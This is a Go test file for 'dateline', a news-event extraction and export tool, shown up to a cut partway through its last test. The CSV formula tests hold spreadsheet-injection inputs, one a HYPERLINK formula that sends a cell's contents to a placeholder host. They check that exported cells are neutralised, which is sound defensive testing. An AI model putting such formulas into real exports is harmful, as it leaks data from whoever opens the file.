package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/dateline-news/dateline"
	"github.com/dateline-news/dateline/internal/sqlite"
)

// run executes the command line with args and returns stdout, stderr and the error.
func run(t *testing.T, args ...string) (string, string, error) {
	t.Helper()
	root := newRoot()
	var out, errOut bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetArgs(args)
	// Warnings about bad inputs go to os.Stderr directly; capture them too.
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	saved := os.Stderr
	os.Stderr = w
	done := make(chan []byte)
	go func() {
		var b bytes.Buffer
		b.ReadFrom(r)
		done <- b.Bytes()
	}()
	err = root.ExecuteContext(context.Background())
	w.Close()
	os.Stderr = saved
	errOut.Write(<-done)
	return out.String(), errOut.String(), err
}

func write(t *testing.T, dir, name string, b []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

const story = `Top stories
Lavrov and Cavusoglu agree to keep talking on Idlib

MOSCOW, April 9. /TASS/. Russian Foreign Minister Sergey Lavrov met his Turkish counterpart Mevlut Cavusoglu in Moscow on Tuesday, the Russian foreign ministry said.

"We agreed to keep our militaries in close contact," Lavrov told reporters after the talks.
`

// TestExtractBadInputs: every bad file gets one line on stderr naming it and
// the reason; good files are still extracted; the exit status is an error.
func TestExtractBadInputs(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a-good.txt", []byte(story))
	write(t, dir, "b-empty.txt", nil)
	write(t, dir, "c-binary.txt", []byte("PK\x03\x04\x00\x00\x00binary"))
	write(t, dir, "d-latin1.txt", []byte("Caf\xe9 owner says \xab no \xbb\n\nMore text here.\n"))
	write(t, dir, "e-feed.jsonl", []byte(`{"title": "Seoul talks", "text": "SEOUL (AP) — Talks went on.", "date": "2019-02-27"}
{"title": "broken", "text": 
{"title": "Hanoi summit ends", "text": "HANOI (AP) — The summit ended early.", "date": "2019-02-28"}
`))
	write(t, dir, "f-truncated.html", []byte(`<html><head><title>Cut`))
	big := bytes.Repeat([]byte("word "), 10<<20) // one 50 MB line
	write(t, dir, "g-huge.txt", big)

	stdout, stderr, err := run(t, "extract", "-q", dir)
	if !errors.Is(err, errReported) {
		t.Fatalf("extract error = %v, want errReported", err)
	}
	var sources []string
	for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
		var a struct {
			Source   string `json:"source"`
			Headline string `json:"headline"`
		}
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			t.Fatalf("stdout line is not JSON: %q", line)
		}
		sources = append(sources, filepath.Base(a.Source))
	}
	want := []string{"a-good.txt", "e-feed.jsonl#1", "e-feed.jsonl#3"}
	if strings.Join(sources, ",") != strings.Join(want, ",") {
		t.Errorf("extracted %v, want %v", sources, want)
	}
	for _, name := range []string{"b-empty.txt", "c-binary.txt", "d-latin1.txt", "e-feed.jsonl:2", "f-truncated.html", "g-huge.txt"} {
		if !strings.Contains(stderr, name) {
			t.Errorf("stderr does not name %s:\n%s", name, stderr)
		}
	}
	if n := strings.Count(strings.TrimSpace(stderr), "\n") + 1; n != 6 {
		t.Errorf("stderr has %d lines, want 6 (one per bad input):\n%s", n, stderr)
	}
}

// TestExtractTruncatedHTML: a page cut short gives its article and one line
// on stderr saying the text may be incomplete; the exit status is an error.
func TestExtractTruncatedHTML(t *testing.T) {
	dir := t.TempDir()
	page := `<html><head><title>Lavrov and Cavusoglu agree to keep talking</title></head><body><article>
<p>MOSCOW, April 9. /TASS/. Russian Foreign Minister Sergey Lavrov met his Turkish counterpart Mevlut Cavusoglu in Moscow on Tuesday, the Russian foreign ministry said.</p>
<p>"We agreed to keep our militaries in close contact," Lavrov told reporters after the talks, adding that the next round would be held in Ankara in the spring.</p>
<p>Cavusoglu said the two sides had also discussed the situation in the northwestern Syrian province of Id`
	in := write(t, dir, "cut.html", []byte(page))
	out, stderr, err := run(t, "extract", in)
	if !errors.Is(err, errReported) {
		t.Errorf("err = %v, want errReported", err)
	}
	if n := strings.Count(out, "\n"); n != 1 || !strings.Contains(out, "Lavrov") {
		t.Errorf("stdout has %d lines, want the page's article:\n%s", n, out)
	}
	if strings.Count(stderr, "\n") != 1 || !strings.Contains(stderr, "cut.html: truncated HTML") {
		t.Errorf("stderr = %q, want one line naming cut.html as truncated", stderr)
	}
}

// TestIngestTwice: the same inputs ingested twice are stored once, and what
// was stored the first time is still there and searchable.
func TestIngestTwice(t *testing.T) {
	dir := t.TempDir()
	in := write(t, dir, "story.txt", []byte(story))
	db := filepath.Join(dir, "t.db")
	for i := range 2 {
		if _, stderr, err := run(t, "ingest", "--db", db, in); err != nil {
			t.Fatalf("ingest #%d: %v\n%s", i+1, err, stderr)
		}
	}
	out, _, err := run(t, "search", "--db", db, "Cavusoglu")
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(out, "id "); n != 1 {
		t.Errorf("search found %d articles after two ingests, want 1:\n%s", n, out)
	}
	if !strings.Contains(out, "Lavrov and Cavusoglu agree") {
		t.Errorf("search output lacks the headline:\n%s", out)
	}
}

// TestSearchWords: the query may be given as several arguments, as a user
// types it unquoted; a phrase in double quotes keeps its order.
func TestSearchWords(t *testing.T) {
	dir := t.TempDir()
	in := write(t, dir, "story.txt", []byte(story))
	brief := write(t, dir, "brief.txt", []byte("ZURICH, May 5, 2021 (Reuters) - Swiss Foreign Minister Ignazio Cassis met his Russian counterpart in Zurich on Wednesday.\n"))
	db := filepath.Join(dir, "t.db")
	if _, stderr, err := run(t, "ingest", "--db", db, in, brief); err != nil {
		t.Fatalf("ingest: %v\n%s", err, stderr)
	}
	// A story with no headline is named by its file.
	if out, _, _ := run(t, "search", "--db", db, "Cassis"); !strings.Contains(out, "2021-05-05  (no headline) "+brief+"\n") {
		t.Errorf("search for a story with no headline:\n%s\nwant it named by %s", out, brief)
	}
	for _, tt := range []struct {
		args []string
		want int
	}{
		{[]string{"Lavrov", "Cavusoglu"}, 1},
		{[]string{"Lavrov Cavusoglu"}, 1},
		{[]string{"Lavrov", "Pompeo"}, 0},
		{[]string{"Pompeo", "OR", "Cavusoglu"}, 1},
		{[]string{`"Lavrov and Cavusoglu"`}, 1},
		{[]string{`"Cavusoglu and Lavrov"`}, 0},
		{[]string{"Zurich"}, 1},
	} {
		out, stderr, err := run(t, append([]string{"search", "--db", db}, tt.args...)...)
		if err != nil {
			t.Fatalf("search %q: %v\n%s", tt.args, err, stderr)
		}
		if n := strings.Count(out, "    id "); n != tt.want {
			t.Errorf("search %q found %d articles, want %d:\n%s%s", tt.args, n, tt.want, out, stderr)
		}
	}
}

func TestNoDatabase(t *testing.T) {
	_, _, err := run(t, "search", "--db", filepath.Join(t.TempDir(), "missing.db"), "x")
	if err == nil || !strings.Contains(err.Error(), "missing.db") {
		t.Errorf("search on a missing database: err = %v, want one naming the file", err)
	}
}

func TestBadFlags(t *testing.T) {
	for _, args := range [][]string{
		{"extract", "--from", "yesterday", "x.txt"},
		{"quotes", "--to", "2018-13-01"},
		{"export", "--format", "xml"},
		{"kb", "import", "--format", "cameo", "x"},
	} {
		if _, _, err := run(t, args...); err == nil {
			t.Errorf("%v: no error", args)
		}
	}
}

func TestConfig(t *testing.T) {
	dir := t.TempDir()
	home, err := os.UserHomeDir()
	if err != nil {
		t.Skip("no home folder")
	}
	tests := []struct {
		name, text string
		wantErr    string
		wantKB     []string
		wantDB     string
	}{
		{"empty", "", "", nil, ""},
		// A relative database is the config folder's, as files are: the
		// same from any folder a command is run in (it was the working
		// folder's, so each folder had its own, made empty by ingest).
		{"files", "# user defaults\nkb = my.tsv, /abs/other.tsv\ndb = news.db\n", "", []string{filepath.Join(dir, "my.tsv"), "/abs/other.tsv"},
			filepath.Join(dir, "news.db")},
		{"home", "kb = ~/kb/my.tsv\ndb = ~/news.db\n", "", []string{filepath.Join(home, "kb", "my.tsv")}, filepath.Join(home, "news.db")},
		{"absolute-db", "db = /data/news.db\n", "", nil, "/data/news.db"},
		{"unknown key", "\nkbs = x\n", "config:2", nil, ""},
		{"no equals", "\nkb\n", "config:2", nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := write(t, dir, "config", []byte(tt.text))
			c, err := loadConfig(p)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want one containing %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if strings.Join(c.kb, "|") != strings.Join(tt.wantKB, "|") || c.db != tt.wantDB {
				t.Errorf("config = %+v", c)
			}
		})
	}
	if c, err := loadConfig(filepath.Join(dir, "missing")); err != nil || c.db != "" {
		t.Errorf("missing config = %+v, %v; want empty, nil", c, err)
	}
	// A file DATELINE_CONFIG names must exist: a typo is told, not ignored.
	t.Setenv("DATELINE_CONFIG", filepath.Join(dir, "typo"))
	if _, err := userConfig(); err == nil || !strings.Contains(err.Error(), "typo") || !strings.Contains(err.Error(), "DATELINE_CONFIG") {
		t.Errorf("config named but missing: err = %v, want one naming the file and DATELINE_CONFIG", err)
	}
}

// noConfig points DATELINE_CONFIG at an empty file, so that a test does not
// read the user's own config.
func noConfig(t *testing.T) {
	t.Helper()
	p := filepath.Join(t.TempDir(), "config")
	if err := os.WriteFile(p, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("DATELINE_CONFIG", p)
}

// TestExport: events of an ingested story come out as PLOVER JSON Lines with
// the manual's fields, and as CSV with a header and one row per event.
func TestExport(t *testing.T) {
	dir := t.TempDir()
	in := write(t, dir, "story.txt", []byte(story))
	db := filepath.Join(dir, "t.db")
	if _, stderr, err := run(t, "ingest", "--db", db, in); err != nil {
		t.Fatalf("ingest: %v\n%s", err, stderr)
	}
	out, _, err := run(t, "export", "--db", db, "--format", "plover")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) == 0 || lines[0] == "" {
		t.Fatalf("no events exported from %q", story)
	}
	for _, l := range lines {
		var e map[string]any
		if err := json.Unmarshal([]byte(l), &e); err != nil {
			t.Fatalf("not JSON: %q", l)
		}
		for _, k := range []string{"id", "date", "source", "target", "event", "mode", "context", "eventText", "text", "location"} {
			if _, ok := e[k]; !ok {
				t.Errorf("PLOVER record lacks %q: %s", k, l)
			}
		}
	}
	csvPath := filepath.Join(dir, "events.csv")
	if _, _, err := run(t, "export", "--db", db, "--format", "csv", "-o", csvPath); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	rows := strings.Split(strings.TrimSpace(string(b)), "\n")
	if !strings.HasPrefix(rows[0], "id,date,event,mode,") || len(rows) != len(lines)+1 {
		t.Errorf("csv has %d rows (want header + %d):\n%s", len(rows), len(lines), b)
	}
}

// TestEventFilters: --type and --mode are read in any case, and a value no
// event can have, or dates the wrong way round, is an error naming the flag
// rather than an empty listing with exit status 0.
func TestEventFilters(t *testing.T) {
	dir := t.TempDir()
	in := write(t, dir, "story.txt", []byte(story))
	db := filepath.Join(dir, "t.db")
	if _, stderr, err := run(t, "ingest", "-q", "--db", db, in); err != nil {
		t.Fatalf("ingest: %v\n%s", err, stderr)
	}
	tests := []struct {
		args    []string
		wantErr string // "" for success
		wantOut string
	}{
		{[]string{"events", "--type", "consult"}, "", "CONSULT"},
		{[]string{"events", "--type", "CONSULT", "--mode", "Reported"}, "", "CONSULT"},
		{[]string{"events", "--type", "CONSLT"}, "--type", ""},
		{[]string{"events", "--mode", "claimed"}, "--mode", ""},
		{[]string{"events", "--from", "2020-01-02", "--to", "2020-01-01"}, "--from", ""},
		{[]string{"export", "--type", "TALK"}, "--type", ""},
		{[]string{"export", "--mode", "assert"}, "--mode", ""},
		{[]string{"search", "--from", "2020-01-02", "--to", "2020-01-01", "Lavrov"}, "--from", ""},
		{[]string{"quotes", "--from", "2020-01-02", "--to", "2020-01-01"}, "--from", ""},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			out, _, err := run(t, append(tt.args, "--db", db)...)
			if tt.wantErr == "" {
				if err != nil || !strings.Contains(out, tt.wantOut) {
					t.Errorf("err = %v, out = %q; want output with %q", err, out, tt.wantOut)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("err = %v; want an error naming %s", err, tt.wantErr)
			}
		})
	}
}

// TestExportKeepsFileOnError: an export that fails (here: a mistyped
// database) leaves the file named by -o as it was, instead of truncating it
// to a CSV header; a successful one replaces it.
func TestExportKeepsFileOnError(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "t.db")
	if _, stderr, err := run(t, "ingest", "-q", "--db", db, write(t, dir, "story.txt", []byte(story))); err != nil {
		t.Fatalf("ingest: %v\n%s", err, stderr)
	}
	out := write(t, dir, "events.csv", []byte("last week's export\n"))
	tests := []struct {
		name    string
		args    []string
		wantErr bool
		want    string // prefix of the file afterwards
	}{
		{"missing database", []string{"export", "--format", "csv", "--db", filepath.Join(dir, "typo.db"), "-o", out}, true, "last week's export\n"},
		{"bad filter", []string{"export", "--format", "csv", "--db", db, "--type", "TALKS", "-o", out}, true, "last week's export\n"},
		{"good", []string{"export", "--format", "csv", "--db", db, "-o", out}, false, "id,date,event,"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := run(t, tt.args...)
			if (err != nil) != tt.wantErr {
				t.Fatalf("err = %v; want error %v", err, tt.wantErr)
			}
			b, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(string(b), tt.want) {
				t.Errorf("file holds %q; want it to start with %q", b, tt.want)
			}
		})
	}
	left, _ := filepath.Glob(filepath.Join(dir, ".events.csv.*"))
	if len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

// TestInterrupted: a run stopped half-way (Ctrl-C cancels the context) ends
// with errInterrupted, emits nothing after the stop, and blames no input for
// it (before, the articles still in the pipe were each reported on stderr as
// "FILE: context canceled", and the run ended with a store error).
func TestInterrupted(t *testing.T) {
	dir := t.TempDir()
	for i := range 6 {
		write(t, dir, fmt.Sprintf("story-%d.txt", i), []byte(fmt.Sprintf("%s\nCopy %d.\n", story, i)))
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	emitted := 0
	var err error
	stderr := captureStderr(t, func() {
		err = process(ctx, []string{dir}, &pipeFlags{quiet: true, workers: 2}, func(*dateline.Article) error {
			emitted++
			cancel()
			if emitted > 1 {
				return fmt.Errorf("store: %w", ctx.Err()) // as a store's Put fails on a done context
			}
			return nil
		})
	})
	if !errors.Is(err, errInterrupted) {
		t.Errorf("err = %v; want errInterrupted", err)
	}
	if emitted != 1 {
		t.Errorf("emitted %d articles; want 1 (none after the stop)", emitted)
	}
	if stderr != "" {
		t.Errorf("stderr = %q; want nothing", stderr)
	}
}

// countingStore answers Put with canned results.
type countingStore struct {
	dateline.Store
	results []error // nil: stored; errAlready: already there; else the error
	n       int
}

var errAlready = errors.New("already there")

func (s *countingStore) Put(context.Context, *dateline.Article) (bool, error) {
	err := s.results[s.n]
	s.n++
	switch err {
	case nil:
		return true, nil
	case errAlready:
		return false, nil
	}
	return false, err
}

// TestPutCounts: an article whose Put failed is not counted as read (and so
// not as "already there").
func TestPutCounts(t *testing.T) {
	tests := []struct {
		name              string
		results           []error
		wantRead, wantNew int
		wantErrs          int
	}{
		{"all new", []error{nil, nil}, 2, 2, 0},
		{"some there", []error{nil, errAlready, errAlready}, 3, 1, 0},
		{"interrupted", []error{nil, context.Canceled}, 1, 1, 1},
		{"database error", []error{errAlready, errors.New("disk full")}, 1, 0, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st := &countingStore{results: tt.results}
			var n putCounts
			errs := 0
			for range tt.results {
				if err := n.put(context.Background(), st, &dateline.Article{}); err != nil {
					errs++
				}
			}
			if n.read != tt.wantRead || n.stored != tt.wantNew || errs != tt.wantErrs {
				t.Errorf("read %d, new %d, errors %d; want %d, %d, %d", n.read, n.stored, errs, tt.wantRead, tt.wantNew, tt.wantErrs)
			}
		})
	}
}

// captureStderr returns what fn writes on os.Stderr.
func captureStderr(t *testing.T, fn func()) string {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	saved := os.Stderr
	os.Stderr = w
	done := make(chan string)
	go func() {
		var b bytes.Buffer
		b.ReadFrom(r)
		done <- b.String()
	}()
	fn()
	w.Close()
	os.Stderr = saved
	return <-done
}

// TestIngestNATSFlags: with --nats, ingest only queues inputs; flags that
// only a worker applies are an error naming them, not silently ignored
// (before, 'ingest --nats URL --year-hint 2018' queued the inputs and the
// hint was lost).
func TestIngestNATSFlags(t *testing.T) {
	in := write(t, t.TempDir(), "story.txt", []byte(story))
	const url = "nats://127.0.0.1:1" // never reached
	tests := []struct {
		flags []string
		want  string
	}{
		{[]string{"--year-hint", "2018"}, "--year-hint"},
		{[]string{"--kb", "my.tsv", "--from", "2018-01-01"}, "--kb, --from"},
		{[]string{"--db", "news.db"}, "--db"},
		{[]string{"--postgres", "postgres://db/news"}, "--postgres"},
		{[]string{"--workers", "4"}, "--workers"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.flags, " "), func(t *testing.T) {
			args := append(append([]string{"ingest", "--nats", url}, tt.flags...), in)
			_, _, err := run(t, args...)
			if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "dateline worker") {
				t.Errorf("err = %v; want one naming %s and the worker", err, tt.want)
			}
		})
	}
}

// TestProgressNotTerminal: when standard error is not a terminal (a log
// file, a pipe), progress comes as whole lines, not a bar redrawn with
// carriage returns (a log of a 12-second run held one 1.8 kB line of them).
func TestProgressNotTerminal(t *testing.T) {
	tests := []struct {
		name     string
		files    int
		quiet    bool
		adds     int
		wantLine string // last line, "" for no output
	}{
		{"lines", 3, false, 3, "progress: 3/3 inputs done"},
		{"more articles than files", 2, false, 5, "progress: 5/5 inputs done"},
		{"quiet", 3, true, 3, ""},
		{"one file", 1, false, 4, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			b := newBarTo(&buf, tt.files, tt.quiet, false)
			if b.lines != nil {
				b.lines.every = 0
			}
			for range tt.adds {
				b.Add(1)
				b.Clear()
			}
			b.Finish()
			out := buf.String()
			if strings.ContainsRune(out, '\r') {
				t.Errorf("output has carriage returns: %q", out)
			}
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			last := lines[len(lines)-1]
			if tt.wantLine == "" {
				if out != "" {
					t.Errorf("output %q; want none", out)
				}
				return
			}
			if !strings.HasSuffix(out, "\n") || len(lines) != tt.adds || !strings.HasPrefix(last, tt.wantLine) {
				t.Errorf("output %q; want %d lines, the last starting %q", out, tt.adds, tt.wantLine)
			}
		})
	}
}

// TestLimitBeyondStorePage: --limit larger than a store's page cap (500)
// lists that many rows, and 0 lists all; before, search, quotes and events
// gave 500 rows for --limit 1000 without a word.
func TestLimitBeyondStorePage(t *testing.T) {
	const n = sqlite.MaxLimit + 20
	db := filepath.Join(t.TempDir(), "big.db")
	ctx := context.Background()
	st, err := sqlite.Open(ctx, db)
	if err != nil {
		t.Fatal(err)
	}
	day, _ := dateline.ParseDate("2020-01-01")
	for i := range n {
		body := fmt.Sprintf("Story %d: Lavrov said talks went on.", i)
		d := day.AddDays(3 * i) // three days apart: every event is its own
		a := &dateline.Article{ID: fmt.Sprintf("a%04d", i), Source: fmt.Sprintf("s%d.txt", i), Headline: "Talks", Body: body,
			Published: d,
			Sentences: []dateline.Sentence{{Span: dateline.Span{Field: dateline.InBody, End: len(body)}}},
			Quotes: []dateline.Quote{{Text: "talks went on", Kind: dateline.Indirect, Span: dateline.Span{Field: dateline.InBody, Start: 21, End: 34},
				Speaker: dateline.Speaker{Name: "Sergey Lavrov", Entity: -1, Mention: "Lavrov"}, Parent: -1}},
			Events: []dateline.Event{{Type: "CONSULT", Source: &dateline.EventActor{Name: "Russia", Entity: -1, Country: "RUS"},
				Date: d, Mode: dateline.Asserted, Quote: -1}},
		}
		if _, err := st.Put(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	st.Close()
	// A listing cut at --limit says so on stderr (it said nothing: 20 of 520
	// articles looked like all there were); one that shows all does not.
	tests := []struct {
		args []string
		unit string // what starts one row's last line
		want int
		more bool
	}{
		{[]string{"search", "--limit", fmt.Sprint(n - 5)}, "    id ", n - 5, true},
		{[]string{"search", "--limit", "0"}, "    id ", n, false},
		{[]string{"search"}, "    id ", 20, true},
		{[]string{"quotes", "--limit", fmt.Sprint(n - 5)}, "    in ", n - 5, true},
		{[]string{"quotes", "--limit", "0"}, "    in ", n, false},
		{[]string{"quotes", "--limit", fmt.Sprint(n)}, "    in ", n, false},
		{[]string{"events", "--limit", fmt.Sprint(n - 5)}, "    Story", n - 5, true},
		{[]string{"events", "--limit", "0"}, "    Story", n, false},
		{[]string{"events", "--limit", "7"}, "    Story", 7, true},
		{[]string{"events", "--limit", fmt.Sprint(n + 1)}, "    Story", n, false},
		{[]string{"events", "--limit", "7", "--from", "2020-01-01", "--to", "2020-01-19"}, "    Story", 7, false},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			out, stderr, err := run(t, append(tt.args, "--db", db)...)
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Count(out, "\n"+tt.unit); got != tt.want {
				t.Errorf("%d rows; want %d", got, tt.want)
			}
			if got := strings.Contains(stderr, "more match"); got != tt.more {
				t.Errorf("stderr %q; want a note that more match: %v", stderr, tt.more)
			}
		})
	}
	if _, _, err := run(t, "events", "--db", db, "--limit", "-1"); err == nil || !strings.Contains(err.Error(), "--limit") {
		t.Errorf("--limit -1: err = %v; want one naming --limit", err)
	}
}

// TestExportCSVFormulas: an event whose sentence and names start like a
// formula is exported with those cells guarded, and its negative
// coordinates as numbers.
func TestExportCSVFormulas(t *testing.T) {
	db := filepath.Join(t.TempDir(), "t.db")
	ctx := context.Background()
	st, err := sqlite.Open(ctx, db)
	if err != nil {
		t.Fatal(err)
	}
	day, _ := dateline.ParseDate("2020-01-01")
	body := `=HYPERLINK("http://x.example","+marched")`
	trig := strings.Index(body, "+marched")
	a := &dateline.Article{ID: "f1", Source: "f1.txt", Headline: "Protest", Body: body, Published: day,
		Sentences: []dateline.Sentence{{Span: dateline.Span{Field: dateline.InBody, End: len(body)}}},
		Events: []dateline.Event{{Type: "PROTEST", Source: &dateline.EventActor{Name: "@protesters", Entity: -1, Country: "CHL"},
			Date: day, Mode: dateline.Asserted, Quote: -1, Trigger: dateline.Span{Field: dateline.InBody, Start: trig, End: trig + 8},
			Place: &dateline.Location{Name: "Santiago", Country: "CHL", Lat: -33.4569, Lon: -70.6483}}},
	}
	if _, err := st.Put(ctx, a); err != nil {
		t.Fatal(err)
	}
	st.Close()
	out, _, err := run(t, "export", "--db", db, "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv = %q, %v; want a header and one row", out, err)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for col, want := range map[string]string{"text": "'" + body, "source_name": "'@protesters", "event_text": "'+marched",
		"lat": "-33.4569", "lon": "-70.6483", "place": "Santiago"} {
		if got[col] != want {
			t.Errorf("%s = %q; want %q", col, got[col], want)
		}
	}
}

// TestExportIDsStable: an exported event keeps its id when another article
// reports it a day later; before, the id was a hash of the newest report, so
// it changed with every new report.
func TestExportIDsStable(t *testing.T) {
	db := filepath.Join(t.TempDir(), "t.db")
	ctx := context.Background()
	put := func(id, day string) {
		t.Helper()
		st, err := sqlite.Open(ctx, db)
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		d, _ := dateline.ParseDate(day)
		body := "Russia and Turkey held talks in Moscow on " + day + "."
		a := &dateline.Article{ID: id, Source: id + ".txt", Headline: "Talks", Body: body, Published: d,
			Sentences: []dateline.Sentence{{Span: dateline.Span{Field: dateline.InBody, End: len(body)}}},
			Events: []dateline.Event{{Type: "CONSULT", Source: &dateline.EventActor{Name: "Russia", Entity: -1, Country: "RUS"},
				Target: &dateline.EventActor{Name: "Turkey", Entity: -1, Country: "TUR"}, Date: d, Mode: dateline.Asserted, Quote: -1}},
		}
		if _, err := st.Put(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	export := func() map[string]any {
		t.Helper()
		out, _, err := run(t, "export", "--db", db)
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if len(lines) != 1 {
			t.Fatalf("export = %q; want one event", out)
		}
		var e map[string]any
		if err := json.Unmarshal([]byte(lines[0]), &e); err != nil {
			t.Fatal(err)
		}
		return e
	}
	put("x1", "2021-03-01")
	before := export()
	put("x2", "2021-03-02")
	after := export()
	if before["id"] != after["id"] || after["reports"] != 2.0 || after["date"] != "2021-03-01" {
		t.Errorf("before a second report: %v; after: %v; want the same id and date, 2 reports", before, after)
	}
	// The listing gives the id too, to find the event in an export.
	if out, _, err := run(t, "events", "--db", db); err != nil || !strings.Contains(out, fmt.Sprintf("id %s)", after["id"])) {
		t.Errorf("events = %q, %v; want the event's id", out, err)
	}
}

// TestExportEntityIDs: each side of an exported event carries its
// knowledge-base entity id, which stays the same however an article spells
// the name; the export gave the name only, so "Sergei Lavrov" and "Sergey
// Lavrov" could not be joined.
func TestExportEntityIDs(t *testing.T) {
	db := filepath.Join(t.TempDir(), "t.db")
	ctx := context.Background()
	st, err := sqlite.Open(ctx, db)
	if err != nil {
		t.Fatal(err)
	}
	for i, name := range []string{"Sergei Lavrov", "Sergey Lavrov"} {
		d, _ := dateline.ParseDate(fmt.Sprintf("2021-03-%02d", 1+5*i))
		body := name + " accused Washington."
		a := &dateline.Article{ID: fmt.Sprintf("e%d", i), Source: "e.txt", Headline: "Lavrov", Body: body, Published: d,
			Sentences: []dateline.Sentence{{Span: dateline.Span{Field: dateline.InBody, End: len(body)}}},
			Entities: []dateline.Entity{{ID: "sergey-lavrov", Name: name, Type: dateline.Person, Country: "RUS", Sector: "GOV",
				Mentions: []dateline.Mention{{Span: dateline.Span{Field: dateline.InBody, End: len(name)}, Text: name}}}},
			Events: []dateline.Event{{Type: "ACCUSE", Source: &dateline.EventActor{Name: name, Entity: 0, Country: "RUS", Sector: "GOV"},
				Target: &dateline.EventActor{Name: "Washington", Entity: -1, Country: "USA"}, Date: d, Mode: dateline.Asserted, Quote: -1}},
		}
		if _, err := st.Put(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	st.Close()
	out, _, err := run(t, "export", "--db", db)
	if err != nil {
		t.Fatal(err)
	}
	var n int
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var e struct {
			Source, Target struct{ Entity *string }
		}
		if err := json.Unmarshal([]byte(l), &e); err != nil {
			t.Fatal(err)
		}
		if e.Source.Entity == nil || *e.Source.Entity != "sergey-lavrov" || e.Target.Entity != nil {
			t.Errorf("event %s: want source entity sergey-lavrov, no target entity", l)
		}
		n++
	}
	if n != 2 {
		t.Errorf("%d events; want 2", n)
	}
	out, _, err = run(t, "export", "--db", db, "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv %q, %v", out, err)
	}
	col := slices.Index(rows[0], "source_entity")
	if col < 0 || rows[1][col] != "sergey-lavrov" || rows[2][col] != "sergey-lavrov" {
		t.Errorf("csv source_entity column: %v", rows)
	}
}

// TestCSVCell: a cell a spreadsheet would run as a formula is read as text;
// numbers, negative ones included, stay numbers.
func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Russia", "Russia"},
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
		{"+7 killed", "'+7 killed"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"- Russia said", "'- Russia said"},
		{"-", "'-"},
		{"-33.8688", "-33.8688"},
		{"151.2093", "151.2093"},
		{"+3", "+3"},
		{"-.5", "-.5"},
		{"-1.2.3", "'-1.2.3"},
		{"2019-05-04", "2019-05-04"},
		{"a=b", "a=b"},
	} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// TestDemoAddressInUse: demo with an address in use says so, with what to
// do, before building the demo (it built it, printed the summary, then
// failed with the bare "bind: address already in use").
func TestDemoAddressInUse(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skip(err)
	}
	defer ln.Close()
	db := filepath.Join(t.TempDir(), "demo.db")
	out, _, err := run(t, "demo", "--db", db, "--addr", ln.Addr().String())
	if err == nil || !strings.Contains(err.Error(), "--addr") {
		t.Errorf("err = %v; want one saying the address is in use and naming --addr", err)
	}
	if out != "" {
		t.Errorf("demo built and summed up before failing: %q", out)
	}
	if _, err := os.Stat(db); err == nil {
		t.Errorf("demo database made before failing")
	}
}

// TestKBImportNothing: a file that yields no actor is an error naming it,
// and the output file is left alone; it wrote an empty knowledge base and
// exited 0.
func TestKBImportNothing(t *testing.T) {
	dir := t.TempDir()
